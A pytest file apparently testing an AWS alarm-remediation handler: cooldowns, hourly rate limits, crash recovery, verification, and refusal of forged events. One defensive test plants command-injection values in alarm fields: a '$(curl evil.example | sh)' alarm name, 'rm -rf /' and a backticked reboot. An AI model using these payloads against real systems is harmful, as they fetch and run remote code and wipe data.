"""Alarm remediation on the local twin: CloudWatch Alarm State Change events, in the envelope EventBridge delivers,
reach the real remediate handler through the alarm queue; runbooks run through the real start path on the fleet
simulator.

Only for an alarm that really is in ALARM in this account and region, on the node the alarm itself names; once per
(rule, node) per cooldown, at most N per rule in any hour, only what the rule says, never twice for one event, and
every decision on a node recorded for notify.
"""

from __future__ import annotations

import json
import logging
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from fleetwave.constants import REMEDIATE_TIMEOUT_SECONDS
from fleetwave_local.twin import Twin, TwinOptions

from .rollouts import summaries_for

RULE: dict[str, Any] = {
    "name": "restart-nginx",
    "alarm_prefix": "web-nginx-down-",
    "document": "AWS-RunShellScript",
    "parameters": {"commands": ["systemctl restart nginx"]},
    "target": "dimension:InstanceId",
    "cooldown_minutes": 30,
    "max_per_hour": 5,
}


def twin_with(*rules: dict[str, Any], seed: int) -> Twin:
    return Twin(TwinOptions(seed=seed, remediation_rules=list(rules)))


def outcomes(twin: Twin, rule: str = "restart-nginx") -> list[str]:
    return [record["outcome"] for record in twin.reader.records.remediations(rule)]


def alarming(twin: Twin, name: str, node: str) -> str:
    """A real metric alarm on ``node``'s InstanceId, in ALARM now."""
    return twin.put_alarm(name, "ALARM", dimensions={"InstanceId": node})


def test_a_burst_of_duplicate_alarm_events_remediates_once():
    with twin_with(RULE, seed=41) as twin:
        [node] = twin.add_nodes(1, tags={"role": "web"})
        alarming(twin, "web-nginx-down-1", node)
        event = twin.alarm_event("web-nginx-down-1", dimensions={"InstanceId": node})
        # When EventBridge delivers one event three times, and the alarm flaps into ALARM three more times
        answers = [twin.remediate(event) for _ in range(3)]
        answers += [twin.alarm("web-nginx-down-1", dimensions={"InstanceId": node}) for _ in range(3)]
        # Then one runbook ran: redeliveries are dropped silently, new events inside the cooldown are skipped
        assert [a["outcome"] for a in answers] == ["started", "duplicate", "duplicate", "skipped", "skipped", "skipped"]
        rollout = twin.run(answers[0]["rollout_id"])
        assert rollout.state.value == "SUCCEEDED" and rollout.trigger == "remediation"
        # Started by the alarm (its ARN as CloudWatch holds it), a remediation rollout ID
        assert rollout.started_by == "arn:aws:cloudwatch:us-east-1:123456789012:alarm:web-nginx-down-1"
        assert rollout.rollout_id.startswith("rem-")
        assert twin.api_calls["ssm:SendCommand"] == 1
        assert outcomes(twin) == ["started", "skipped", "skipped", "skipped"]
        started, skipped = twin.reader.records.remediations("restart-nginx")[:2]
        assert started["pk"] == "REMEDIATION#restart-nginx" and started["sk"].endswith(f"#{node}")
        assert started["type"] == "remediation" and started["rule"] == "restart-nginx"
        assert started["alarm_name"] == "web-nginx-down-1" and started["instance_id"] == node
        assert started["rollout_id"] == rollout.rollout_id and started["expires_at"] > 0
        assert skipped["reason"].startswith(f"cooldown: rule restart-nginx acted on {node}")
        assert "rollout_id" not in skipped
        # And the remediation is summarized like any rollout
        [summary] = summaries_for(twin, rollout.rollout_id)
        assert summary["spec"] == "remediate-restart-nginx" and summary["state"] == "SUCCEEDED"


def test_the_cooldown_is_honoured_and_then_expires():
    with twin_with(RULE, seed=42) as twin:
        [node] = twin.add_nodes(1, tags={"role": "web"})
        alarming(twin, "web-nginx-down-1", node)
        first = twin.alarm("web-nginx-down-1", dimensions={"InstanceId": node})
        twin.run(first["rollout_id"])
        start = twin.clock.now()
        # Ten minutes later: still cooling down
        twin.sim.advance_to(start + timedelta(minutes=10))
        assert twin.alarm("web-nginx-down-1", dimensions={"InstanceId": node})["outcome"] == "skipped"
        # Past the 30 minutes (the expired lock item is still in the table: TTL deletes late), it runs again
        twin.sim.advance_to(start + timedelta(minutes=31))
        second = twin.alarm("web-nginx-down-1", dimensions={"InstanceId": node})
        assert second["outcome"] == "started" and second["rollout_id"] != first["rollout_id"]
        assert twin.run(second["rollout_id"]).state.value == "SUCCEEDED"
        assert outcomes(twin) == ["started", "skipped", "started"]
        # The cooldown is per node: another node of the same rule is not held back by it
        [other] = twin.add_nodes(1, tags={"role": "web"})
        alarming(twin, "web-nginx-down-2", other)
        assert twin.alarm("web-nginx-down-2", dimensions={"InstanceId": other})["outcome"] == "started"


def test_the_storm_breaker_trips_then_frees_a_slot_an_hour_after_the_oldest_start():
    with twin_with({**RULE, "max_per_hour": 2}, seed=43) as twin:
        nodes = sorted(twin.add_nodes(4, tags={"role": "web"}))
        for i, node in enumerate(nodes):
            alarming(twin, f"web-nginx-down-{i}", node)
        # When four nodes alarm within the hour
        answers = [twin.alarm(f"web-nginx-down-{i}", dimensions={"InstanceId": n}) for i, n in enumerate(nodes)]
        # Then two are remediated, and fleetwave notifies instead of acting on the others
        assert [a["outcome"] for a in answers] == ["started", "started", "skipped", "skipped"]
        assert answers[2]["reason"].startswith(
            "storm breaker: rule restart-nginx already started 2 remediation(s) in the last hour; the next may start"
        )
        assert twin.api_calls["ssm:SendCommand"] == 2
        assert outcomes(twin) == ["started", "started", "skipped", "skipped"]
        # And an hour after the first start, a node skipped by the breaker (no cooldown was started for it) is remediated
        twin.sim.advance_to(twin.clock.now() + timedelta(hours=1))
        assert twin.alarm("web-nginx-down-2", dimensions={"InstanceId": nodes[2]})["outcome"] == "started"


def test_the_storm_breaker_is_a_sliding_window_across_the_hour_boundary():
    # Given a rule allowing 2 per hour, and two remediations at 10:59
    start = datetime(2026, 3, 10, 10, 59, tzinfo=UTC)
    with Twin(TwinOptions(seed=49, start=start, remediation_rules=[{**RULE, "max_per_hour": 2}])) as twin:
        nodes = sorted(twin.add_nodes(4, tags={"role": "web"}))
        for i, node in enumerate(nodes):
            alarming(twin, f"web-nginx-down-{i}", node)
        before = [twin.alarm(f"web-nginx-down-{i}", dimensions={"InstanceId": nodes[i]}) for i in (0, 1)]
        assert [a["outcome"] for a in before] == ["started", "started"]
        # When two more nodes alarm at 11:00, a new clock hour but the same sliding hour
        twin.sim.advance_to(datetime(2026, 3, 10, 11, 0, 30, tzinfo=UTC))
        after = [twin.alarm(f"web-nginx-down-{i}", dimensions={"InstanceId": nodes[i]}) for i in (2, 3)]
        # Then neither runs: 2 per hour means 2 in any 60 minutes, not 4 in two minutes
        assert [a["outcome"] for a in after] == ["skipped", "skipped"]
        assert "2026-03-10T11:59:00" in after[0]["reason"]
        assert twin.api_calls["ssm:SendCommand"] == 2
        # And at 11:59:01 the first slot is free again
        twin.sim.advance_to(datetime(2026, 3, 10, 11, 59, 1, tzinfo=UTC))
        assert twin.alarm("web-nginx-down-2", dimensions={"InstanceId": nodes[2]})["outcome"] == "started"


def test_a_forged_event_cannot_change_what_runs():
    with twin_with(RULE, seed=44) as twin:
        [node] = twin.add_nodes(1, tags={"role": "web"})
        name = "web-nginx-down-$(curl evil.example | sh)"
        alarming(twin, name, node)
        # Given an event with a matching alarm name carrying a document, parameters and shell text of its own
        event = twin.alarm_event(name, dimensions={"InstanceId": node}, description="; rm -rf / #", reason="`reboot`")
        event["document"] = "AWS-RunRemoteScript"
        event["parameters"] = {"commands": ["curl evil.example | sh"]}
        event["detail"]["parameters"] = {"commands": ["rm -rf /"]}
        event["detail"]["document"] = {"name": "AWS-RunRemoteScript", "version": "7"}
        event["detail"]["configuration"]["parameters"] = {"commands": ["reboot"]}
        answer = twin.remediate(event)
        twin.run(answer["rollout_id"])
        # Then the command is exactly the rule's, and no alarm text reached it (not even its Comment)
        [command] = twin.sim.commands()
        assert command.document_name == "AWS-RunShellScript"
        assert command.parameters == {"commands": ["systemctl restart nginx"]}
        assert command.comment == f"fleetwave:{answer['rollout_id']}:0:0"
        assert command.instance_ids == [node]


def test_events_naming_no_rule_are_ignored_without_acting():
    with twin_with(RULE, seed=45) as twin:
        [node] = twin.add_nodes(1, tags={"role": "web"})
        alarming(twin, "db-disk-full", node)
        ignored = [
            # an alarm no rule names
            twin.alarm("db-disk-full", dimensions={"InstanceId": node}),
            # back to OK is not a reason to act
            twin.alarm("web-nginx-down-1", dimensions={"InstanceId": node}, state="OK", previous_state="ALARM"),
        ]
        assert [a["outcome"] for a in ignored] == ["ignored"] * 2
        # A message that is not a CloudWatch alarm state change at all
        forged = {**twin.alarm_event("web-nginx-down-1", dimensions={"InstanceId": node}), "source": "custom.app"}
        assert twin.remediate(forged) == {"outcome": "ignored", "reason": "malformed event"}
        assert twin.api_calls["ssm:SendCommand"] == 0 and outcomes(twin) == []


# ------------------------------------------------------------------------------------------- forged events
@contextmanager
def log_records() -> Iterator[list[logging.LogRecord]]:
    """What the functions log (the "fleetwave" logger and its children) while the block runs."""
    records: list[logging.LogRecord] = []

    class Collect(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            records.append(record)

    handler = Collect(level=logging.DEBUG)
    logger = logging.getLogger("fleetwave")
    logger.addHandler(handler)
    try:
        yield records
    finally:
        logger.removeHandler(handler)


def _cross_account(twin: Twin, node: str) -> dict[str, Any]:
    return twin.alarm_event("web-nginx-down-1", dimensions={"InstanceId": node}, account="999999999999")


def _cross_region(twin: Twin, node: str) -> dict[str, Any]:
    return twin.alarm_event("web-nginx-down-1", dimensions={"InstanceId": node}, region="eu-west-1")


def _foreign_alarm_arn(twin: Twin, node: str) -> dict[str, Any]:
    event = twin.alarm_event("web-nginx-down-1", dimensions={"InstanceId": node})
    event["resources"] = ["arn:aws:cloudwatch:us-east-1:999999999999:alarm:web-nginx-down-1"]
    return event


def _composite_with_forged_metrics(twin: Twin, node: str) -> dict[str, Any]:
    # The real alarm is composite (no node in it); the event claims a metric with the node's InstanceId
    twin.put_composite_alarm("web-nginx-down-composite", "ALARM")
    return twin.alarm_event("web-nginx-down-composite", dimensions={"InstanceId": node})


def _stale(twin: Twin, node: str) -> dict[str, Any]:
    # The alarm was in ALARM when the event left, and is OK now (or the event was replayed)
    twin.set_alarm_state("web-nginx-down-1", "OK")
    return twin.alarm_event("web-nginx-down-1", dimensions={"InstanceId": node})


def _node_not_in_the_alarm(twin: Twin, node: str) -> dict[str, Any]:
    # The real alarm watches another node; the event names ours
    [other] = twin.add_nodes(1, tags={"role": "web"})
    twin.put_alarm("web-nginx-down-other", "ALARM", dimensions={"InstanceId": other})
    return twin.alarm_event("web-nginx-down-other", dimensions={"InstanceId": node})


def _no_such_alarm(twin: Twin, node: str) -> dict[str, Any]:
    return twin.alarm_event("web-nginx-down-nonexistent", dimensions={"InstanceId": node})


def _prefix_match_on_the_wrong_node(twin: Twin, node: str) -> dict[str, Any]:
    # Anyone who can create an alarm can name it web-nginx-down-...: a real alarm, in ALARM, on a database node
    [database] = twin.add_nodes(1, tags={"role": "db"})
    twin.put_alarm("web-nginx-down-db", "ALARM", dimensions={"InstanceId": database})
    return twin.alarm_event("web-nginx-down-db", dimensions={"InstanceId": database})


def _not_a_node_id(twin: Twin, node: str) -> dict[str, Any]:
    twin.put_alarm("web-nginx-down-bad", "ALARM", dimensions={"InstanceId": f"{node}\n"})
    return twin.alarm_event("web-nginx-down-bad", dimensions={"InstanceId": f"{node}\n"})


def _unmanaged_node(twin: Twin, node: str) -> dict[str, Any]:
    # A web node without fleetwave:managed=true (IAM would refuse SendCommand to it anyway)
    [stranger] = twin.sim.add_nodes(1, tags={"role": "web"})
    twin.put_alarm("web-nginx-down-stranger", "ALARM", dimensions={"InstanceId": stranger})
    return twin.alarm_event("web-nginx-down-stranger", dimensions={"InstanceId": stranger})


FORGED = {
    "cross-account alarm": (_cross_account, "foreign_account"),
    "cross-region alarm": (_cross_region, "foreign_region"),
    "alarm ARN of another account": (_foreign_alarm_arn, "foreign_alarm_arn"),
    "composite alarm with forged metrics": (_composite_with_forged_metrics, "event_contradicts_alarm"),
    "stale event, alarm OK now": (_stale, "alarm_not_in_alarm"),
    "node not in the alarm's dimensions": (_node_not_in_the_alarm, "event_contradicts_alarm"),
    "alarm that does not exist": (_no_such_alarm, "alarm_not_found"),
    "name-prefix match on the wrong node": (_prefix_match_on_the_wrong_node, "node_tag_mismatch"),
    "dimension that is not a node ID": (_not_a_node_id, "not_a_node_id"),
    "node without the managed tag": (_unmanaged_node, "node_tag_mismatch"),
}


@pytest.mark.parametrize("case", FORGED, ids=list(FORGED))
def test_an_event_that_does_not_hold_up_is_refused_with_a_reason_and_a_metric(
    case: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
):
    forge, code = FORGED[case]
    rule = {**RULE, "target_tag": {"role": "web"}}
    monkeypatch.setenv("FLEETWAVE_TWIN_LOG_LEVEL", "WARNING")
    with Twin(TwinOptions(seed=50, remediation_rules=[rule])) as twin:
        [node] = twin.add_nodes(1, tags={"role": "web"})
        alarming(twin, "web-nginx-down-1", node)
        # When the forged (or stale) event reaches the alarm queue (written by anyone allowed sqs:SendMessage)
        capsys.readouterr()
        with log_records() as records:
            answer = twin.remediate(forge(twin, node))
        out = capsys.readouterr().out.splitlines()
        # Then nothing runs, nothing is recorded as a remediation, and the refusal says why
        assert answer["outcome"] == "refused" and answer["refusal"] == code, answer
        assert answer["reason"]
        assert twin.api_calls["ssm:SendCommand"] == 0 and outcomes(twin) == []
        assert not twin.reader.rollouts.find()
        # And it is logged with its reason, and counted by reason (CloudWatch embedded metric format)
        emf = [json.loads(line) for line in out if line.startswith("{") and '"_aws"' in line]
        assert [e for e in emf if e.get("RemediationRefused") == [1.0] and e.get("Reason") == code], emf
        logged = [r for r in records if r.getMessage().startswith("remediation refused")]
        assert logged and getattr(logged[-1], "refusal", None) == code
        assert logged[-1].getMessage().endswith(answer["reason"]) and logged[-1].levelname == "WARNING"


def test_a_redelivered_event_resumes_a_remediation_whose_first_attempt_crashed():
    with twin_with(RULE, seed=48) as twin:
        [node] = twin.add_nodes(1, tags={"role": "web"})
        alarming(twin, "web-nginx-down-1", node)
        event = twin.alarm_event("web-nginx-down-1", dimensions={"InstanceId": node})
        locks = twin.reader.locks
        # Given the first delivery claimed the cooldown, then died before starting the runbook
        now = twin.clock.now()
        locks.claim_cooldown(
            "restart-nginx",
            node,
            event_id=event["id"],
            now=now,
            until=now + timedelta(minutes=30),
            planned_rollout_id="rem-20260101T000000-abcdef",
        )
        # While that attempt could still be running, a redelivery leaves it alone
        assert twin.remediate(event)["outcome"] == "duplicate"
        # Once the function's timeout has passed, the redelivery carries the remediation out, as planned
        twin.sim.advance_to(now + timedelta(seconds=REMEDIATE_TIMEOUT_SECONDS))
        answer = twin.remediate(event)
        assert answer["outcome"] == "started" and answer["rollout_id"] == "rem-20260101T000000-abcdef"
        assert twin.run(answer["rollout_id"]).state.value == "SUCCEEDED"
        assert twin.remediate(event)["outcome"] == "duplicate"


def test_a_crash_between_send_command_and_its_record_never_sends_twice(monkeypatch: pytest.MonkeyPatch):
    with twin_with(RULE, seed=51) as twin:
        [node] = twin.add_nodes(1, tags={"role": "web"})
        alarming(twin, "web-nginx-down-1", node)
        event = twin.alarm_event("web-nginx-down-1", dimensions={"InstanceId": node})
        # Given the first delivery dies right after SendCommand returned, before the ledger recorded the command
        from fleetwave.adapters.ledger.dispatch import Dispatch

        record_sent = Dispatch.record_sent
        crashes = []

        def crash_once(self: Dispatch, *args: Any, **kwargs: Any) -> None:
            if not crashes:
                crashes.append(True)
                raise RuntimeError("Lambda timed out here")
            record_sent(self, *args, **kwargs)

        monkeypatch.setattr(Dispatch, "record_sent", crash_once)
        assert twin.remediate(event)["outcome"] == "retry"
        assert twin.api_calls["ssm:SendCommand"] == 1
        # When SQS redelivers the message after the function's timeout (and again, as it may)
        twin.sim.advance_to(twin.clock.now() + timedelta(seconds=REMEDIATE_TIMEOUT_SECONDS + 1))
        twin.redeliver_alarm_queue()
        twin.redeliver_alarm_queue()
        # Then the remediation is resumed: its command is found by its Comment, not sent again
        assert twin.api_calls["ssm:SendCommand"] == 1
        [started] = [r for r in twin.remediations if r["outcome"] == "started"]
        rollout = twin.run(started["rollout_id"])
        assert rollout.state.value == "SUCCEEDED" and rollout.target_count == 1
        assert twin.api_calls["ssm:SendCommand"] == 1
        assert outcomes(twin) == ["started"]


def test_a_rule_can_select_alarms_and_find_the_node_by_alarm_tags():
    rule = {k: v for k, v in RULE.items() if k != "alarm_prefix"} | {
        "name": "restart-agent",
        "alarm_tags": {"fleetwave:runbook": "restart-agent"},
        "target": "tag:fleetwave:instance",
    }
    with twin_with(rule, seed=46) as twin:
        [node] = twin.add_nodes(1, tags={"role": "web"})
        tags = {"fleetwave:runbook": "restart-agent", "fleetwave:instance": node}
        twin.put_composite_alarm("agent-health", "ALARM", tags=tags)
        # A composite alarm has no metric: its tag names the node
        answer = twin.alarm("agent-health", composite=True)
        assert answer["outcome"] == "started" and answer["instance_id"] == node
        assert twin.api_calls["cloudwatch:ListTagsForResource"] == 1
        assert twin.run(answer["rollout_id"]).state.value == "SUCCEEDED"


def test_a_remediation_whose_alarm_does_not_recover_is_reported_failed():
    with twin_with({**RULE, "verify_minutes": 10}, seed=47) as twin:
        healed, broken = sorted(twin.add_nodes(2, tags={"role": "web"}))
        for name, node in (("web-nginx-down-healed", healed), ("web-nginx-down-broken", broken)):
            twin.put_alarm(name, "ALARM", dimensions={"InstanceId": node})
        first = twin.alarm("web-nginx-down-healed", dimensions={"InstanceId": healed})
        second = twin.alarm("web-nginx-down-broken", dimensions={"InstanceId": broken})
        # Given the first alarm recovers after its runbook, the second does not
        twin.set_alarm_state("web-nginx-down-healed", "OK")
        # The verification timers queue their checks on the alarm queue, and dead-letter what they cannot deliver
        schedules = twin.plumbing("scheduler").list_schedules(GroupName="fleetwave")["Schedules"]
        assert len(schedules) == 2 and all(s["Name"].startswith("fw-verify-") for s in schedules)
        target = twin.plumbing("scheduler").get_schedule(Name=schedules[0]["Name"], GroupName="fleetwave")["Target"]
        assert target["Arn"] == twin.resources.alarm_queue_arn
        assert target["DeadLetterConfig"] == {"Arn": twin.resources.delivery_dlq_arn}
        # When the rollouts end and the verification timers fire
        twin.run(first["rollout_id"])
        twin.run(second["rollout_id"])
        # Then only the second remediation is reported failed, after its runbook succeeded
        records = twin.reader.records.remediations("restart-nginx")
        failed = [r for r in records if r["outcome"] == "verification_failed"]
        assert [r["instance_id"] for r in failed] == [broken]
        assert failed[0]["rollout_id"] == second["rollout_id"]
        assert failed[0]["reason"].startswith("alarm web-nginx-down-broken is ALARM 10 min after the runbook succeeded")
        assert twin.reader.rollouts.get(second["rollout_id"]).state.value == "SUCCEEDED"
        # Every verification timer ran and was deleted
        assert twin.plumbing("scheduler").list_schedules(GroupName="fleetwave")["Schedules"] == []
        # A forged verification request naming another node is refused
        forged = {
            "verify": {
                "rule": "restart-nginx",
                "alarm_name": "web-nginx-down-broken",
                "instance_id": healed,
                "rollout_id": second["rollout_id"],
            }
        }
        assert twin.remediate(forged)["outcome"] == "refused"
